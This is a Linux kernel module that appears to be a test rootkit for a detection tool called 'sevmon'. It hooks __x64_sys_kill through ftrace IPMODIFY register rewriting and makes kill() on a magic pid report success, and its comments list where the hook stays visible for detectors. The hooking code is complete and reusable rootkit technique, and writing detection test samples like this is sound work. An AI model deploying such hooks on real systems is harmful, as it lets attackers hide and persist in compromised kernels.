// SPDX-License-Identifier: GPL-2.0
/*
 * rk_ftrace: a syscall hook through ftrace, the way current rootkits hook (ftrace_hook,
 * Reptile's khook successors): an ftrace_ops with SAVE_REGS | IPMODIFY filtered on
 * __x64_sys_kill, whose callback rewrites regs->ip so that the traced function returns into
 * rk_kill() instead. rk_kill() calls the real __x64_sys_kill (ftrace fires again; the caller is
 * now this module, so the callback lets it through), except for kill(MAGIC, 0): success
 * although no process MAGIC exists. Unlike a sys_call_table hook this works whatever the
 * dispatch path (x64_sys_call switch included).
 *
 * Visible to: /sys/kernel/tracing/enabled_functions (the site is listed with the ops and
 * "R I" flags: regs, ipmodify), the patched call at the function entry (to an ftrace
 * trampoline), and ftrace_ops_list in memory (its ->func points into this module).
 *
 * Parameters: magic (pid, default 31338), calls (times rk_kill ran), target (the function).
 */
#include <linux/atomic.h>
#include <linux/delay.h>
#include <linux/ftrace.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/ptrace.h>
#include <linux/rcupdate.h>
#include <linux/version.h>
#include "rk_common.h"

typedef long (*rk_sys_t)(const struct pt_regs *);

static int magic = 31338;
module_param(magic, int, 0444);
static unsigned long calls;
module_param(calls, ulong, 0444);
static char *target = "__x64_sys_kill";
module_param(target, charp, 0444);

static rk_sys_t real_kill;
static atomic_t inflight = ATOMIC_INIT(0);

static long rk_kill(const struct pt_regs *regs)
{
	long ret;

	atomic_inc(&inflight);
	calls++;
	if ((int)regs->di == magic && regs->si == 0)
		ret = 0;
	else
		ret = real_kill(regs);
	atomic_dec(&inflight);
	return ret;
}

static void notrace rk_ftrace_cb(unsigned long ip, unsigned long parent_ip,
				 struct ftrace_ops *op, struct ftrace_regs *fregs)
{
	struct pt_regs *regs = ftrace_get_regs(fregs);

	/* Our own call to the real function: let it run. */
	if (!regs || within_module(parent_ip, THIS_MODULE))
		return;
	regs->ip = (unsigned long)rk_kill;
}

static struct ftrace_ops rk_ops = {
	.func = rk_ftrace_cb,
	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_RECURSION | FTRACE_OPS_FL_IPMODIFY,
};

static int __init rk_init(void)
{
	int err;

	real_kill = (rk_sys_t)rk_lookup(target);
	if (!real_kill)
		return -ENOENT;
	err = ftrace_set_filter(&rk_ops, target, strlen(target), 0);
	if (err)
		return err;
	err = register_ftrace_function(&rk_ops);
	if (err) {
		ftrace_free_filter(&rk_ops);
		return err;
	}
	pr_info("rk_ftrace: %s redirected to rk_kill (magic pid %d)\n", target, magic);
	return 0;
}

static void __exit rk_exit(void)
{
	unregister_ftrace_function(&rk_ops);
	ftrace_free_filter(&rk_ops);
	while (atomic_read(&inflight))
		msleep(10);
	synchronize_rcu_tasks();
	pr_info("rk_ftrace: %s restored\n", target);
}

module_init(rk_init);
module_exit(rk_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("sevmon test rootkit: ftrace IPMODIFY hook of __x64_sys_kill");
